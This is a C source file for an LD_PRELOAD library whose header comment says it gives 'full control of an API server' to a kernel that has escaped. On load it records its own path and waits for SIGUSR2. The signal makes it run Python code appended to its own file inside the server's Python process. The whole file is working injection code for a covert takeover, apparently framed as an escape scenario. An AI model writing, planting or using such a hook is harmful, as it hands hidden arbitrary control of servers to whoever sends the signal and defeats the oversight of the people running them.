/* Full control of an API server, as a kernel has it that escaped: loaded beside the driver (LD_PRELOAD), it
 * runs the Python code at the end of its own file, on a thread of its own, when the process gets SIGUSR2. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static char path[4096];

static void *run(void *unused) {
    (void)unused;
    int (*ensure)(void) = (int (*)(void))dlsym(RTLD_DEFAULT, "PyGILState_Ensure");
    int (*execute)(const char *, void *) =
        (int (*)(const char *, void *))dlsym(RTLD_DEFAULT, "PyRun_SimpleStringFlags");
    void (*release)(int) = (void (*)(int))dlsym(RTLD_DEFAULT, "PyGILState_Release");
    char code[8192];
    snprintf(code, sizeof code,
             "code = open('%s', 'rb').read().rpartition(b'PAYLOAD\\n')[2]\n"
             "exec(compile(code, 'payload', 'exec'), {'__name__': 'payload'})\n",
             path);
    int state = ensure();
    execute(code, NULL);
    release(state);
    return NULL;
}

static void taken_over(int number) {
    (void)number;
    pthread_t thread;
    pthread_create(&thread, NULL, run, NULL);
}

__attribute__((constructor)) static void wait_for_it(void) {
    Dl_info info;
    if (dladdr((void *)&path, &info) == 0)
        return;
    snprintf(path, sizeof path, "%s", info.dli_fname);
    signal(SIGUSR2, taken_over);
}
